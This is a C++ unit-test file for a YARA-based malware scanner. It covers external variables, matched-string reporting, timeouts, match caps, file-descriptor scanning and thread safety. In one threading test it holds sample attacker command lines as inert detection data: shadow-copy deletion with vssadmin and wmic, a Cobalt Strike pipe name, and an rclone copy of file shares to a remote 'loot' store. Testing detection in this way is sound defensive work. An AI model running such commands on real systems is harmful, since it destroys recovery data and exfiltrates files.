// Scanner: externals, matched strings, limits (timeout, match caps), descriptors, threads.
#include "analyzer/yara/scanner.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <chrono>
#include <thread>

#include "tests/unit/analyzer/yara/test_util.h"

namespace beffroi::yara {
namespace {

using testing::Bytes;
using testing::MatchNames;
using testing::TempDir;
using testing::YaraTest;

std::shared_ptr<const RuleSet> MustCompile(const std::string& source) {
  auto set = RuleSet::Compile(source);
  EXPECT_TRUE(set.ok()) << (set.ok() ? "" : set.error().message);
  return set.ok() ? std::move(set).value() : nullptr;
}

std::unique_ptr<Scanner> MustScanner(std::shared_ptr<const RuleSet> set, ScanLimits limits = {}) {
  auto scanner = Scanner::Create(std::move(set), limits);
  EXPECT_TRUE(scanner.ok()) << (scanner.ok() ? "" : scanner.error().message);
  return scanner.ok() ? std::move(scanner).value() : nullptr;
}

class ScannerTest : public YaraTest {};

TEST_F(ScannerTest, EveryExternalReachesTheRules) {
  auto scanner = MustScanner(MustCompile(R"(
rule all_externals {
  condition:
    filename == "Budget.XLSX.ryk" and filepath == "/srv/shares/finances" and
    extension == ".ryk" and filetype == "data" and
    md5 == "900150983cd24fb0d6963f7d28e17f72" and owner == "root"
}
rule extension_only { condition: extension == ".ryk" }
)"));
  ASSERT_NE(scanner, nullptr);
  Externals ex;
  ex.filename = "Budget.XLSX.ryk";
  ex.filepath = "/srv/shares/finances";
  ex.extension = ".ryk";
  ex.filetype = "data";
  ex.md5 = "900150983cd24fb0d6963f7d28e17f72";
  ex.owner = "root";
  auto all = scanner->ScanBuffer(Bytes("abc"), ex);
  ASSERT_TRUE(all.ok()) << all.error().message;
  EXPECT_EQ(MatchNames(*all), (std::set<std::string>{"all_externals", "extension_only"}));

  for (std::string_view name : kExternalNames) {
    SCOPED_TRACE(std::string(name));
    Externals changed = ex;
    if (name == "filename") changed.filename = "other";
    if (name == "filepath") changed.filepath = "/srv";
    if (name == "extension") changed.extension = ".xlsx";
    if (name == "filetype") changed.filetype = "zip";
    if (name == "md5") changed.md5 = "";
    if (name == "owner") changed.owner = "alice";
    auto r = scanner->ScanBuffer(Bytes("abc"), changed);
    ASSERT_TRUE(r.ok());
    EXPECT_EQ(r->matches.size(), name == "extension" ? 0u : 1u);
  }
  // Values never leak from one scan into the next.
  auto none = scanner->ScanBuffer(Bytes("abc"), Externals{});
  ASSERT_TRUE(none.ok());
  EXPECT_TRUE(none->matches.empty());
}

TEST(Externals, ForPathFollowsLokiAndThor) {
  std::string_view pdf = "%PDF-1.7\n";
  Externals ex = ExternalsForPath("/srv/shares/Rapport.Final.PDF", Bytes(pdf));
  EXPECT_EQ(ex.filename, "Rapport.Final.PDF");
  EXPECT_EQ(ex.filepath, "/srv/shares");
  EXPECT_EQ(ex.extension, ".pdf");
  EXPECT_EQ(ex.filetype, "pdf");
  EXPECT_EQ(ex.md5, "");
  EXPECT_EQ(ex.owner, "");

  EXPECT_EQ(ExternalsForPath("/etc/passwd", {}).filepath, "/etc");
  EXPECT_EQ(ExternalsForPath("/etc/passwd", {}).extension, "");
  EXPECT_EQ(ExternalsForPath("/etc/passwd", {}).filetype, "empty");
  EXPECT_EQ(ExternalsForPath("/vmlinuz", {}).filepath, "/");
  EXPECT_EQ(ExternalsForPath("/home/a/.bashrc", {}).extension, "");
  EXPECT_EQ(ExternalsForPath("/home/a/.config.bak", {}).extension, ".bak");
  EXPECT_EQ(ExternalsForPath("relative.TXT", {}).filepath, "");
  EXPECT_EQ(ExternalsForPath("relative.TXT", {}).filename, "relative.TXT");
  EXPECT_EQ(ExternalsForPath("/srv//data/x.tar.gz", {}).filepath, "/srv//data");
  EXPECT_EQ(ExternalsForPath("/srv//data/x.tar.gz", {}).extension, ".gz");
  EXPECT_EQ(ExternalValue(ex, "extension"), ".pdf");
  EXPECT_EQ(ExternalValue(ex, "unknown"), "");
}

TEST_F(ScannerTest, ReportsMatchedStringIdentifiersUpToSixteen) {
  std::string source = "rule many { strings:";
  for (int i = 0; i < 20; ++i)
    source += " $s" + std::to_string(i) + " = \"tok" + std::to_string(i) + "x\"";
  source += " $unmatched = \"absent\" condition: any of them }\n";
  source +=
      "rule two { strings: $a = \"tok1x\" $b = \"nothing\" $c = \"tok2x\" condition: $a and ($b or "
      "$c) }";
  auto scanner = MustScanner(MustCompile(source));
  ASSERT_NE(scanner, nullptr);
  std::string data;
  for (int i = 0; i < 20; ++i)
    data += "tok" + std::to_string(i) + "x ";
  auto r = scanner->ScanBuffer(Bytes(data), {});
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->matches.size(), 2u);
  EXPECT_EQ(r->matches[0].rule->name, "many");
  EXPECT_EQ(r->matches[0].strings.size(), kMaxStringsPerMatch);
  EXPECT_EQ(r->matches[0].strings.front(), "$s0");
  EXPECT_EQ(r->matches[1].strings, (std::vector<std::string>{"$a", "$c"}));
}

TEST_F(ScannerTest, PrivateRulesAndPrivateStringsAreNotReported) {
  auto scanner = MustScanner(
      MustCompile("private rule helper { strings: $a = \"needle\" condition: $a }\n"
                  "rule uses_helper { strings: $hidden = \"hay\" private $shown = \"stack\"\n"
                  "  condition: helper and $hidden and $shown }\n"));
  ASSERT_NE(scanner, nullptr);
  auto r = scanner->ScanBuffer(Bytes("a needle in a haystack"), {});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(MatchNames(*r), std::set<std::string>{"uses_helper"});
  ASSERT_EQ(r->matches.size(), 1u);
  EXPECT_EQ(r->matches[0].strings, std::vector<std::string>{"$shown"});
}

TEST_F(ScannerTest, TimeoutGivesTimedOutRatherThanAnError) {
  auto set = MustCompile(
      "rule quick { condition: true }\n"
      "rule slow { condition: for all i in (0..4000000000) : (i >= 0) }\n");
  auto scanner = MustScanner(set, ScanLimits{1, 100});
  ASSERT_NE(scanner, nullptr);
  auto start = std::chrono::steady_clock::now();
  auto r = scanner->ScanBuffer(Bytes("x"), {});
  auto elapsed = std::chrono::steady_clock::now() - start;
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_TRUE(r->timed_out);
  EXPECT_FALSE(r->match_cap_reached);
  EXPECT_LT(elapsed, std::chrono::seconds(30));
  // The scanner stays usable.
  auto quick = MustScanner(MustCompile("rule quick { condition: true }"), ScanLimits{1, 100});
  auto again = quick->ScanBuffer(Bytes("x"), {});
  ASSERT_TRUE(again.ok());
  EXPECT_FALSE(again->timed_out);
  EXPECT_EQ(again->matches.size(), 1u);
}

TEST_F(ScannerTest, RuleCapStopsTheScanAndSaysSo) {
  std::string source;
  for (int i = 0; i < 150; ++i)
    source += "rule r" + std::to_string(i) + " { condition: true }\n";
  auto set = MustCompile(source);
  auto capped = MustScanner(set, ScanLimits{60, 100});
  auto r = capped->ScanBuffer(Bytes("x"), {});
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->matches.size(), 100u);
  EXPECT_TRUE(r->match_cap_reached);
  EXPECT_EQ(r->matches.front().rule->name, "r0");

  auto roomy = MustScanner(set, ScanLimits{60, 150});
  auto all = roomy->ScanBuffer(Bytes("x"), {});
  ASSERT_TRUE(all.ok());
  EXPECT_EQ(all->matches.size(), 150u);
  EXPECT_FALSE(all->match_cap_reached);
}

TEST_F(ScannerTest, TooManyStringMatchesDegradesToTheCapFlag) {
  auto scanner =
      MustScanner(MustCompile("rule dense { strings: $a = { 41 41 } condition: $a }\n"
                              "rule other { strings: $b = \"END\" condition: $b }\n"));
  std::string data(1'100'000, 'A');
  data += "END";
  auto r = scanner->ScanBuffer(Bytes(data), {});
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_TRUE(r->match_cap_reached);
  EXPECT_FALSE(r->timed_out);
  EXPECT_EQ(MatchNames(*r), (std::set<std::string>{"dense", "other"}));
}

TEST_F(ScannerTest, CreateRejectsBadLimitsAndNullRules) {
  auto set = MustCompile("rule a { condition: true }");
  EXPECT_FALSE(Scanner::Create(nullptr).ok());
  EXPECT_FALSE(Scanner::Create(set, ScanLimits{-1, 100}).ok());
  EXPECT_FALSE(Scanner::Create(set, ScanLimits{60, 0}).ok());
  EXPECT_TRUE(Scanner::Create(set, ScanLimits{0, 1}).ok());
}

TEST_F(ScannerTest, ScannerKeepsItsRuleSetAlive) {
  auto set = MustCompile("rule a { strings: $a = \"alive\" condition: $a }");
  auto scanner = MustScanner(set);
  const RuleInfo* info = set->FindRule("a");
  set.reset();
  auto r = scanner->ScanBuffer(Bytes("still alive"), {});
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->matches.size(), 1u);
  EXPECT_EQ(r->matches[0].rule, info);
  EXPECT_EQ(&scanner->rule_set().rules()[0], info);
}

TEST_F(ScannerTest, ScanFdReadsTheWholeFile) {
  TempDir dir;
  auto scanner = MustScanner(MustCompile(
      "rule marker { strings: $m = \"MARKER\" condition: $m and filesize == 10 and "
      "filename == \"f.bin\" }\nrule empty_file { condition: filesize == 0 and extension == "
      "\".bin\" }\n"));
  std::string path = dir.Write("f.bin", "xxxxMARKER");
  int fd = ::open(path.c_str(), O_RDONLY);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::lseek(fd, 5, SEEK_SET), 5);  // the offset does not matter
  Externals ex;
  ex.filename = "f.bin";
  auto r = scanner->ScanFd(fd, ex);
  ::close(fd);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(MatchNames(*r), std::set<std::string>{"marker"});

  std::string empty = dir.Write("e.bin", "");
  fd = ::open(empty.c_str(), O_RDONLY);
  ex.extension = ".bin";
  auto e = scanner->ScanFd(fd, ex);
  ::close(fd);
  ASSERT_TRUE(e.ok()) << e.error().message;
  EXPECT_EQ(MatchNames(*e), std::set<std::string>{"empty_file"});

  EXPECT_EQ(scanner->ScanFd(-1, ex).error().code, ErrorCode::kInvalidArgument);
  int dir_fd = ::open(dir.path().c_str(), O_RDONLY | O_DIRECTORY);
  auto d = scanner->ScanFd(dir_fd, ex);
  ::close(dir_fd);
  EXPECT_FALSE(d.ok());
}

TEST_F(ScannerTest, FourThreadsWithTheirOwnScannersAgree) {
  auto set = testing::OurRules();
  ASSERT_NE(set, nullptr);
  // One buffer that several rules match: recovery inhibition, Cobalt Strike pipes, rclone.
  std::string data =
      "vssadmin delete shadows /all /quiet\nwmic shadowcopy delete\n"
      "PipeName: \\MSSE-1234-server\n"
      "rclone copy D:\\Shares mega:loot\n" +
      testing::PseudoRandomBytes(64 * 1024, 7);
  Externals ex = ExternalsForPath("/srv/it/run.bat", Bytes(data));
  auto reference = MustScanner(set)->ScanBuffer(Bytes(data), ex);
  ASSERT_TRUE(reference.ok());
  std::set<std::string> expected = MatchNames(*reference);
  ASSERT_EQ(expected, (std::set<std::string>{"RANSOM_Recovery_Inhibition_Commands",
                                             "HKTL_CobaltStrike_Default_Pipe_Names",
                                             "EXFIL_Rclone_Mega_Command"}));

  std::vector<std::vector<std::set<std::string>>> seen(4);
  std::vector<std::thread> threads;
  for (std::size_t t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      auto scanner = Scanner::Create(set);
      if (!scanner.ok()) return;
      for (int i = 0; i < 50; ++i) {
        auto r = (*scanner)->ScanBuffer(Bytes(data), ex);
        seen[t].push_back(r.ok() ? MatchNames(*r) : std::set<std::string>{"<error>"});
      }
    });
  }
  for (auto& th : threads)
    th.join();
  for (std::size_t t = 0; t < 4; ++t) {
    ASSERT_EQ(seen[t].size(), 50u) << "thread " << t;
    for (const auto& names : seen[t])
      EXPECT_EQ(names, expected) << "thread " << t;
  }
}

}  // namespace
}  // namespace beffroi::yara
